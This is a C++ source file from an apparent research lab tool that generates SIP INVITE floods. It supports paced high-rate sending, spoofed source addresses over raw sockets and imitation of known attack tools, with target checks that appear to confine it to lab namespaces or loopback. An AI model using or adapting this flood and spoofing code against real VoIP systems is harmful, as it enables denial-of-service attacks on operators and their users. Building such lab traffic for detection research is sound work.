#include "lab/flood.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include <cerrno>
#include <cstdio>
#include <cstring>
#include <memory>

#include "lab/attack_messages.h"
#include "lab/loopback_sources.h"
#include "lab/netns.h"
#include "lab/pacer.h"
#include "lab/raw_sender.h"
#include "lab/source_sockets.h"
#include "sim/rng.h"

namespace lab {

util::Status ValidateFloodOptions(const FloodOptions &o) {
  SIPDDOS_RETURN_IF_ERROR(CheckTarget(o.target, o.netns));
  if (!(o.rate >= 1 && o.rate <= 100000))
    return util::Status::Error("--rate " + std::to_string(o.rate) + ": must be 1..100000 INVITE/s");
  if (!(o.duration_s > 0 && o.duration_s <= 7 * 86400))
    return util::Status::Error("--duration " + std::to_string(o.duration_s) +
                               ": must be more than 0 and at most a week");
  if (o.source_port < -1 || o.source_port > 65535)
    return util::Status::Error("--source-port " + std::to_string(o.source_port) +
                               ": must be 0..65535");
  if (o.sources < 1 || o.sources > MaxSources(o.spoof))
    return util::Status::Error("--sources " + std::to_string(o.sources) + ": --spoof " +
                               std::string(dataset::Name(o.spoof)) + " allows 1.." +
                               std::to_string(MaxSources(o.spoof)));
  return util::Status::Ok();
}

namespace {

uint16_t SourcePort(const FloodOptions &o) {
  if (o.source_port >= 0) return uint16_t(o.source_port);
  if (o.attack == dataset::Tool::kMimic) return 5060;
  sim::Rng rng(sim::Mix(o.seed, 0x706f7274ull));  // Mr.SIP: one random port per run
  return uint16_t(rng.Range(10000, 65535));
}

}  // namespace

util::Result<std::vector<SourceSocket>> LabFloodSources(const FloodOptions &o) {
  auto addresses = SpoofedSources(o.spoof, o.sources, o.seed, o.target.address.v4());
  if (!addresses.ok()) return addresses.status();
  const uint16_t port = SourcePort(o);
  sim::Rng rng(sim::Mix(o.seed, 0x6b65726eull));  // "kernel-chosen": a seeded port each
  std::vector<SourceSocket> out;
  out.reserve(addresses->size());
  for (uint32_t a : *addresses)
    out.push_back({-1, a, port != 0 ? port : uint16_t(rng.Range(32768, 60999))});
  return out;
}

util::Status RunFlood(const FloodOptions &o, const std::atomic<bool> *stop, FloodStats *stats) {
  *stats = FloodStats{};
  SIPDDOS_RETURN_IF_ERROR(ValidateFloodOptions(o));
  // Sockets belong to the namespace of the thread that opens them.
  if (!o.netns.empty()) SIPDDOS_RETURN_IF_ERROR(EnterNetns(o.netns));
  const uint32_t target = o.target.address.v4();
  const bool spoofed = IsLabTarget(o.target, o.netns);
  SourceSockets pool;             // loopback: one bound socket per source
  std::vector<SourceSocket> lab;  // lab: forged sources, nothing bound
  std::unique_ptr<RawUdpSender> raw;
  if (spoofed) {
    auto sources = LabFloodSources(o);
    if (!sources.ok()) return sources.status();
    lab = std::move(*sources);
    raw = std::make_unique<RawUdpSender>();
    SIPDDOS_RETURN_IF_ERROR(raw->Open());
  } else {
    auto addresses = LoopbackSources(o.spoof, o.sources, o.seed, target);
    if (!addresses.ok()) return addresses.status();
    SIPDDOS_RETURN_IF_ERROR(pool.Open(*addresses, SourcePort(o)));
    stats->port_fallbacks = pool.fallbacks();
  }
  const std::vector<SourceSocket> &socks = spoofed ? lab : pool.sockets();
  stats->sources = int(socks.size());

  sockaddr_in dst{};
  dst.sin_family = AF_INET;
  dst.sin_addr.s_addr = htonl(target);
  dst.sin_port = htons(o.target.port);
  const AttackMessages messages(o.attack, target, o.target.port, o.seed);
  std::string text;
  text.reserve(4096);  // an INVITE is ~1 kB: no allocation inside the loop

  const Pacer pacer(o.rate, o.duration_s, MonotonicMicros());
  for (int64_t k = 0; pacer.InRun(k); ++k) {
    if (!SleepUntil(pacer.Due(k), stop)) {
      stats->interrupted = true;
      break;
    }
    const SourceSocket &s = socks[size_t(k % int64_t(socks.size()))];
    messages.Render(k, s.address, s.port, &text);
    ssize_t n;
    if (spoofed) {
      n = raw->Send(s.address, s.port, target, o.target.port, text) ? ssize_t(text.size()) : -1;
    } else {
      do {
        n = sendto(s.fd, text.data(), text.size(), 0, reinterpret_cast<const sockaddr *>(&dst),
                   sizeof dst);
      } while (n < 0 && errno == EINTR);
    }
    if (n == ssize_t(text.size())) {
      ++stats->sent;
    } else {
      if (stats->send_errors++ == 0)
        stats->first_error =
            n < 0 ? std::string("sendto: ") + std::strerror(errno) : "sendto: short write";
    }
  }
  // Hold until the schedule's end so the achieved rate compares with the
  // nominal one.
  if (!stats->interrupted && !SleepUntil(pacer.end(), stop)) stats->interrupted = true;
  stats->elapsed = MonotonicMicros() - pacer.start();
  return util::Status::Ok();
}

std::string FormatSummary(const FloodOptions &o, const FloodStats &s) {
  char buf[320];
  std::snprintf(buf, sizeof buf,
                "sent %lld INVITEs to %s in %.3f s: %.1f/s (nominal %g/s) from "
                "%d sources%s",
                (long long)s.sent, o.target.ToString().c_str(), double(s.elapsed) / 1e6, s.rate(),
                o.rate, s.sources, s.interrupted ? ", interrupted" : "");
  std::string out = buf;
  if (s.send_errors > 0)
    out += "; " + std::to_string(s.send_errors) + " send errors (first: " + s.first_error + ")";
  if (s.port_fallbacks > 0)
    out += "; " + std::to_string(s.port_fallbacks) + " sockets on a kernel-chosen port";
  return out;
}

}  // namespace lab
